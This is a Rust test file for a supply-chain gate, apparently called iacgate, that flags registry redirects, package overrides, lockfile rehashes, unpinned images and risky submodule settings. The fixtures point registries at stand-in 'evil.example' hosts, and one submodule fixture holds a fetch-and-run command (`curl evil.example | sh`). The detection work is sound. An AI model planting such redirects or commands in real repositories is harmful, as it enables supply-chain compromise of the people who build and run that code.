//! Issue 18, routes 27b, 30b and 39b: where a pinned package, an image or
//! a submodule really comes from, moved outside the lines iacgate judged.

use crate::util::{check_staged, TestRepo};

/// (rule, file, line) of each finding.
type Rules = Vec<(String, String, u64)>;

const PACKAGE_JSON: &str = "{\"dependencies\": {\"@pulumi/aws\": \"6.54.2\"}}\n";

/// Commit `files`, then stage `path` as `after`: the staged findings,
/// then (committed) the same change as CI's `check --range` sees it.
fn judged_both_ways(files: &[(&str, &str)], path: &str, after: &str) -> (Rules, i32) {
    let repo = TestRepo::new();
    repo.write("README.md", "x\n");
    for (p, text) in files {
        repo.write(p, text);
    }
    repo.commit_all("before");
    repo.write(path, after).stage(&[path]);
    let staged = check_staged(&repo);
    repo.git(&["commit", "-q", "--no-verify", "-m", "change"]);
    let range = repo.iacgate(&["check", "--range", "HEAD~1..HEAD", "--format", "json"]);
    assert_eq!(staged.rules(), range.rules(), "{}", range.stdout);
    (staged.rules(), staged.code)
}

fn source_change_at(path: &str, line: u64) -> Rules {
    vec![("source-change".to_owned(), path.to_owned(), line)]
}

#[test]
fn an_npmrc_registry_added_or_changed_is_a_source_change() {
    let base = [("infra/package.json", PACKAGE_JSON)];
    let (staged, code) = judged_both_ways(
        &base,
        "infra/.npmrc",
        "; mirror\nregistry=https://npm.evil.example/\n",
    );
    assert_eq!(staged, source_change_at("infra/.npmrc", 2));
    assert_eq!(code, 1);
    let (staged, _) = judged_both_ways(
        &[
            ("infra/package.json", PACKAGE_JSON),
            (
                "infra/.npmrc",
                "@pulumi:registry=https://npm.acme.example/\n",
            ),
        ],
        "infra/.npmrc",
        "@pulumi:registry=https://npm.evil.example/\n",
    );
    assert_eq!(staged, source_change_at("infra/.npmrc", 1));
}

#[test]
fn a_yarnrc_pip_uv_or_galaxy_index_is_a_source_change() {
    let cases = [
        (
            ".yarnrc.yml",
            "npmScopes:\n  pulumi:\n    npmRegistryServer: https://npm.evil.example\n",
            3,
        ),
        (
            "pip.conf",
            "[global]\nindex-url = https://pypi.evil.example/simple\n",
            2,
        ),
        (
            "uv.toml",
            "extra-index-url = [\"https://pypi.evil.example/simple\"]\n",
            1,
        ),
        (
            "ansible.cfg",
            "[galaxy]\nserver = https://galaxy.evil.example/\n",
            2,
        ),
    ];
    for (path, text, line) in cases {
        let (staged, code) = judged_both_ways(&[], path, text);
        assert_eq!(staged, source_change_at(path, line), "{path}");
        assert_eq!(code, 1, "{path}");
    }
}

#[test]
fn registry_config_that_moves_nothing_is_silent() {
    let npmrc = "registry=https://npm.acme.example/\n";
    // A comment, another setting, the default registry written out.
    for after in [
        "# our mirror\nregistry=https://npm.acme.example/\n",
        "registry=https://npm.acme.example/\nfund=false\n",
    ] {
        let (staged, code) = judged_both_ways(&[(".npmrc", npmrc)], ".npmrc", after);
        assert!(staged.is_empty(), "{after}: {staged:?}");
        assert_eq!(code, 0);
    }
    let (staged, _) = judged_both_ways(
        &[],
        ".npmrc",
        "registry=https://registry.npmjs.org/\nsave-exact=true\n",
    );
    assert!(staged.is_empty(), "{staged:?}");
    // Back to the default registry: the source every unconfigured package has.
    let (staged, _) = judged_both_ways(&[(".npmrc", npmrc)], ".npmrc", "save-exact=true\n");
    assert!(staged.is_empty(), "{staged:?}");
    let (staged, _) = judged_both_ways(
        &[("ansible.cfg", "[defaults]\nroles_path = roles\n")],
        "ansible.cfg",
        "[defaults]\nroles_path = roles:more\n",
    );
    assert!(staged.is_empty(), "{staged:?}");
}

#[test]
fn an_unreadable_registry_config_is_a_parse_error() {
    let (staged, code) = judged_both_ways(&[], "uv.toml", "index-url = [\n");
    assert_eq!(staged[0].0, "parse-error");
    assert_eq!(code, 1);
}

#[test]
fn an_override_of_a_pinned_package_is_a_version_or_source_change() {
    let with = |overrides: &str| {
        format!("{{\"dependencies\": {{\"@pulumi/aws\": \"6.54.2\"}}, {overrides}}}\n")
    };
    let base = [("package.json", PACKAGE_JSON)];
    let (staged, code) = judged_both_ways(
        &base,
        "package.json",
        &with("\"overrides\": {\"@pulumi/aws\": \"6.0.0\"}"),
    );
    assert_eq!(
        staged,
        vec![("version-change".to_owned(), "package.json".to_owned(), 1)]
    );
    assert_eq!(code, 1);
    let (staged, _) = judged_both_ways(
        &base,
        "package.json",
        &with("\"resolutions\": {\"**/@pulumi/aws\": \"npm:@evil/aws@6.54.2\"}"),
    );
    assert!(
        staged.iter().any(|(rule, ..)| rule == "source-change"),
        "{staged:?}"
    );
    let (staged, _) = judged_both_ways(
        &base,
        "package.json",
        &with("\"pnpm\": {\"overrides\": {\"@pulumi/aws\": \"^6\"}}"),
    );
    assert!(
        staged.iter().any(|(rule, ..)| rule == "unpinned"),
        "{staged:?}"
    );
    // An override of a package iacgate does not judge changes nothing.
    let (staged, _) = judged_both_ways(
        &base,
        "package.json",
        &with("\"overrides\": {\"left-pad\": \"1.3.0\"}"),
    );
    assert!(staged.is_empty(), "{staged:?}");
}

const LOCK: &str = r#"{"lockfileVersion": 3, "packages": {
  "node_modules/@pulumi/aws": {
    "version": "6.54.2",
    "resolved": "https://registry.npmjs.org/@pulumi/aws/-/aws-6.54.2.tgz",
    "integrity": "sha512-good"
  }
}}
"#;

#[test]
fn a_package_lock_entry_resolved_elsewhere_or_rehashed_is_judged() {
    let base = [("package.json", PACKAGE_JSON), ("package-lock.json", LOCK)];
    let moved = LOCK.replace("registry.npmjs.org", "npm.evil.example");
    let (staged, code) = judged_both_ways(&base, "package-lock.json", &moved);
    assert_eq!(staged, source_change_at("package-lock.json", 4));
    assert_eq!(code, 1);
    let rehashed = LOCK.replace("sha512-good", "sha512-evil");
    let (staged, code) = judged_both_ways(&base, "package-lock.json", &rehashed);
    assert_eq!(
        staged,
        vec![("lock-tamper".to_owned(), "package-lock.json".to_owned(), 3)]
    );
    assert_eq!(code, 1);
    // Another package's entry, or whitespace: nothing.
    let other = LOCK.replace(
        "}\n}}",
        "},\n  \"node_modules/left-pad\": {\"version\": \"1.3.0\"}\n}}",
    );
    let (staged, _) = judged_both_ways(&base, "package-lock.json", &other);
    assert!(staged.is_empty(), "{staged:?}");
}

const GITMODULES: &str =
    "[submodule \"lib\"]\n\tpath = vendor/lib\n\turl = https://github.com/acme/lib.git\n";

#[test]
fn a_submodule_that_follows_a_branch_or_merges_is_unpinned() {
    for (extra, why) in [
        ("branch = main", "--remote"),
        ("update = rebase", "rebases"),
        ("update = !sh -c 'curl evil.example | sh'", "runs a command"),
    ] {
        let after = format!("{GITMODULES}\t{extra}\n");
        let repo = TestRepo::new();
        repo.write(".gitmodules", GITMODULES).commit_all("before");
        repo.write(".gitmodules", &after).stage(&[".gitmodules"]);
        let staged = check_staged(&repo);
        assert_eq!(staged.code, 1, "{extra}: {}", staged.stdout);
        assert_eq!(
            staged.rules(),
            [("unpinned".to_owned(), ".gitmodules".to_owned(), 4)],
            "{extra}"
        );
        assert!(
            staged.messages()[0].contains(why),
            "{:?}",
            staged.messages()
        );
        repo.git(&["commit", "-q", "--no-verify", "-m", "follow"]);
        let range = repo.iacgate(&["check", "--range", "HEAD~1..HEAD", "--format", "json"]);
        assert_eq!(range.rules(), staged.rules(), "{}", range.stdout);
        assert_eq!(range.code, 1);
    }
}

#[test]
fn submodule_settings_that_keep_the_gitlink_are_silent() {
    let branch = format!("{GITMODULES}\tbranch = main\n");
    for (before, after) in [
        (branch.clone(), format!("# vendored\n{branch}")),
        (
            GITMODULES.to_owned(),
            format!("{GITMODULES}\tupdate = checkout\n"),
        ),
        (branch.clone(), GITMODULES.to_owned()),
        (
            GITMODULES.to_owned(),
            format!("{GITMODULES}\tshallow = true\n"),
        ),
    ] {
        let repo = TestRepo::new();
        repo.write(".gitmodules", &before).commit_all("before");
        repo.write(".gitmodules", &after).stage(&[".gitmodules"]);
        let staged = check_staged(&repo);
        assert_eq!(staged.code, 0, "{after}: {}", staged.stdout);
        assert!(staged.rules().is_empty(), "{after}: {:?}", staged.rules());
    }
}

const DIGEST: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

fn dockerfile() -> String {
    format!("ARG BASE=alpine@{DIGEST}\nFROM ${{BASE}}\nRUN true\n")
}

#[test]
fn a_build_arg_that_reaches_from_is_judged_as_the_image() {
    let compose = "services:\n  app:\n    build:\n      context: .\n      args:\n        BASE: alpine:latest\n";
    let (staged, code) = judged_both_ways(
        &[
            ("Dockerfile", &dockerfile()),
            ("compose.yaml", "services:\n  app:\n    build: .\n"),
        ],
        "compose.yaml",
        compose,
    );
    assert_eq!(
        staged,
        vec![("unpinned".to_owned(), "compose.yaml".to_owned(), 6)]
    );
    assert_eq!(code, 1);
    // The list form, and a value the .env sets.
    let compose = "services:\n  app:\n    build:\n      context: .\n      args:\n        - BASE=${APP_BASE}\n";
    let (staged, _) = judged_both_ways(
        &[
            ("Dockerfile", &dockerfile()),
            (".env", "APP_BASE=alpine:3\n"),
        ],
        "compose.yaml",
        compose,
    );
    assert_eq!(
        staged,
        vec![("unpinned".to_owned(), "compose.yaml".to_owned(), 6)]
    );
}

#[test]
fn a_dockerfile_change_that_lets_a_build_arg_reach_from_is_judged() {
    let compose = "services:\n  app:\n    build:\n      context: .\n      args:\n        BASE: alpine:latest\n";
    let (staged, code) = judged_both_ways(
        &[
            ("Dockerfile", &format!("FROM alpine@{DIGEST}\n")),
            ("compose.yaml", compose),
        ],
        "Dockerfile",
        &dockerfile(),
    );
    assert_eq!(
        staged,
        vec![("unpinned".to_owned(), "compose.yaml".to_owned(), 6)]
    );
    assert_eq!(code, 1);
}

#[test]
fn build_args_that_reach_no_from_are_silent() {
    let compose = "services:\n  app:\n    build:\n      context: .\n      args:\n        VERSION: \"1.2\"\n        BASE: alpine@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n";
    let (staged, code) = judged_both_ways(
        &[
            ("Dockerfile", &dockerfile()),
            ("compose.yaml", "services:\n  app:\n    build: .\n"),
        ],
        "compose.yaml",
        compose,
    );
    assert!(staged.is_empty(), "{staged:?}");
    assert_eq!(code, 0);
    // A Dockerfile edit that leaves its FROM as the args make it.
    let (staged, code) = judged_both_ways(
        &[("Dockerfile", &dockerfile()), ("compose.yaml", compose)],
        "Dockerfile",
        &dockerfile().replace("RUN true", "RUN echo hi"),
    );
    assert!(staged.is_empty(), "{staged:?}");
    assert_eq!(code, 0);
}

#[test]
fn an_image_variable_set_in_dotenv_is_judged_with_its_value() {
    let compose = "services:\n  web:\n    image: ${IMG}\n";
    let pinned = format!("IMG=nginx@{DIGEST}\n");
    // Added with a pinned value: a new dependency, not a variable.
    let (staged, code) = judged_both_ways(&[(".env", &pinned)], "compose.yaml", compose);
    assert_eq!(
        staged,
        vec![("new-dependency".to_owned(), "compose.yaml".to_owned(), 3)]
    );
    assert_eq!(code, 0);
    // The .env moves the image: judged as the image's change.
    let (staged, code) = judged_both_ways(
        &[(".env", &pinned), ("compose.yaml", compose)],
        ".env",
        "IMG=nginx:latest\n",
    );
    // As editing the image itself would be: another version, and unpinned.
    assert_eq!(
        staged,
        vec![
            ("unpinned".to_owned(), "compose.yaml".to_owned(), 3),
            ("version-change".to_owned(), "compose.yaml".to_owned(), 3)
        ]
    );
    assert_eq!(code, 1);
    let other = "sha256:1111111111111111111111111111111111111111111111111111111111111111";
    let (staged, _) = judged_both_ways(
        &[(".env", &pinned), ("compose.yaml", compose)],
        ".env",
        &format!("IMG=nginx@{other}\n"),
    );
    assert_eq!(
        staged,
        vec![("version-change".to_owned(), "compose.yaml".to_owned(), 3)]
    );
}

#[test]
fn a_dotenv_change_no_image_reads_is_silent() {
    let compose = "services:\n  web:\n    image: ${IMG}\n";
    let pinned = format!("IMG=nginx@{DIGEST}\nDEBUG=0\n");
    for after in [
        format!("# pinned\nIMG=nginx@{DIGEST}\nDEBUG=0\n"),
        format!("IMG=nginx@{DIGEST}\nDEBUG=1\n"),
    ] {
        let (staged, code) = judged_both_ways(
            &[(".env", &pinned), ("compose.yaml", compose)],
            ".env",
            &after,
        );
        assert!(staged.is_empty(), "{after}: {staged:?}");
        assert_eq!(code, 0);
    }
}
